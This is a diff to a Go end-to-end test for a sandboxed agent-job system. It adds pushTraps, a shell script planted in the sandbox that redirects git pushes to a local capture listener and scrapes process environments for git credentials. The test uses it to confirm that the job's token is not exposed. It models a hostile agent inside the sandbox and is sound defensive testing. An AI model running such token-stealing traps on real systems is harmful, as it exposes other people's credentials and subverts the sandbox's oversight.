@@ -13,8 +13,10 @@ import (
 	"testing"
 	"time"
 
+	"github.com/drydockhq/drydock"
 	"github.com/drydockhq/drydock/gittest"
 	"github.com/drydockhq/drydock/runtime/runtimetest"
+	"github.com/drydockhq/drydock/toolbox"
 )
 
 // A job scheduled with the CLI's --repo starts in a Docker sandbox from a
@@ -23,7 +25,9 @@ import (
 // port are allowed for it), and authenticates with the job's secret. The
 // token then is in none of the job's events, the server's log (at debug
 // level), the archive or its .git/config, and the CLI's output. Once the
-// job completes, its changes are pushed to a drydock/ branch.
+// job completes, its changes are pushed to a drydock/ branch, although the
+// agent's side planted what would steer the push elsewhere or read git's
+// environment (pushTraps).
 func TestJobStartsFromARepositoryInASandbox(t *testing.T) {
 	t.Parallel()
 	for _, e := range engines() {
@@ -55,7 +59,7 @@ func repoJobInASandbox(t *testing.T, engine, host string) {
 	s.args = append(s.args, "--docker-host", host, "--image-headless", img)
 	s.start()
 
-	cmd := exec.Command(binary, "schedule", "Look at the code [fake:steps=1]", "--secret", "GIT_TOKEN",
+	cmd := exec.Command(binary, "schedule", "Look at the code [fake:steps=2] [fake:delay=3s]", "--secret", "GIT_TOKEN",
 		"--repo", git.URL+"@feature/x", "--repo-secret", "GIT_TOKEN", "--repo-push", "drydock/e2e")
 	cmd.Env = append(os.Environ(), "DRYDOCK_URL="+s.url(), "GIT_TOKEN="+token)
 	var stderr bytes.Buffer
@@ -66,6 +70,7 @@ func repoJobInASandbox(t *testing.T, engine, host string) {
 	}
 	id := strings.TrimSpace(string(cliOut))
 	cliOut = append(cliOut, stderr.Bytes()...)
+	plantPushTraps(t, host, node, id, git.URL, s)
 	j, _ := s.waitTerminal(id, 3*time.Minute)
 	if j.Status != "complete" || j.Repo == nil || j.Repo.Ref != "feature/x" || len(j.Egress) != 0 {
 		t.Fatalf("job: %s %q repo %+v egress %v\n%s", j.Status, j.Error, j.Repo, j.Egress, s.logs)
@@ -105,6 +110,9 @@ func repoJobInASandbox(t *testing.T, engine, host string) {
 	if files["feature.txt"] != "feature\n" || files["README.md"] != "# project\n" {
 		t.Errorf("the archive lacks the branch's files: %v", keys(files))
 	}
+	if !strings.Contains(files["environ.txt"], "watching") || !strings.Contains(files[".git/config"], "insteadOf") {
+		t.Errorf("the traps were not in place: environ.txt %q, files %v, .git/config %q", files["environ.txt"], keys(files), files[".git/config"])
+	}
 	if cfg := files[".git/config"]; !strings.Contains(cfg, "url = "+git.URL+"\n") {
 		t.Errorf(".git/config:\n%s", cfg)
 	}
@@ -131,5 +139,64 @@ func repoJobInASandbox(t *testing.T, engine, host string) {
 				t.Errorf("the token (%s) is in the %s", leak, where)
 			}
 		}
+	}
+}
+
+// pushTraps is what an agent could leave behind to get a repository's
+// token at push time: a listener on 127.0.0.1:9999 that saves what it is
+// sent, url.insteadOf rules (repository and user configuration) that send
+// the repository's URL there without a proxy, and a process that copies
+// the environment of every process it can read into the workspace.
+const pushTraps = `set -e
+printf '[url "http://127.0.0.1:9999/"]\n\tinsteadOf = %s\n[http]\n\tproxy =\n' "$REPO_URL" >>.git/config
+printf '[url "http://127.0.0.1:9999/"]\n\tinsteadOf = %s\n' "$REPO_URL" >~/.gitconfig
+setsid nohup python3 -c '
+import socket
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1", 9999)); s.listen(8)
+while True:
+    c, _ = s.accept(); c.settimeout(2)
+    try:
+        d = c.recv(65536)
+    except Exception:
+        d = b""
+    open("/workspace/captured.txt", "ab").write(d); c.close()
+' >/dev/null 2>&1 &
+setsid nohup sh -c 'echo watching >/workspace/environ.txt; while :; do for f in /proc/[0-9]*/environ; do tr "\0" "\n" <"$f" 2>/dev/null | grep -a GIT_CONFIG_VALUE >>/workspace/environ.txt || true; done; done' >/dev/null 2>&1 &
+# toolboxd ends the command's process group when it returns: wait until
+# both have left it (setsid) and run.
+for i in $(seq 100); do
+	[ -s environ.txt ] && python3 -c 'import socket; socket.create_connection(("127.0.0.1", 9999)).close()' 2>/dev/null && break
+	sleep 0.1
+done
+echo planted`
+
+// plantPushTraps waits for the job's clone and plants pushTraps in its
+// sandbox through toolboxd, as the agent's commands run.
+func plantPushTraps(t *testing.T, host, node, id, repoURL string, s *server) {
+	t.Helper()
+	rt := engineRuntime(t, host)
+	for deadline := time.Now().Add(2 * time.Minute); ; time.Sleep(200 * time.Millisecond) {
+		if time.Now().After(deadline) {
+			t.Fatalf("job %s: no sandbox with a clone in time\n%s", id, s.logs)
+		}
+		sbs, err := rt.List(t.Context(), map[string]string{drydock.LabelServer: node, drydock.LabelJob: id})
+		if err != nil || len(sbs) != 1 || sbs[0].State != drydock.SandboxRunning {
+			continue
+		}
+		sb := jobSandbox(t, rt, node, id)
+		tb := toolbox.New(sb.Endpoint, sb.Token)
+		var out bytes.Buffer
+		res, err := tb.Exec(t.Context(), toolbox.ExecRequest{Command: "test -f .git/HEAD && test -f README.md"}, &out, &out)
+		if err != nil || res.ExitCode != 0 {
+			tb.Close()
+			continue
+		}
+		out.Reset()
+		res, err = tb.Exec(t.Context(), toolbox.ExecRequest{Command: pushTraps, Env: map[string]string{"REPO_URL": repoURL}}, &out, &out)
+		tb.Close()
+		if err != nil || res.ExitCode != 0 || !strings.Contains(out.String(), "planted") {
+			t.Fatalf("planting the traps: %v %+v %q", err, res, out.String())
+		}
+		return
 	}
 }
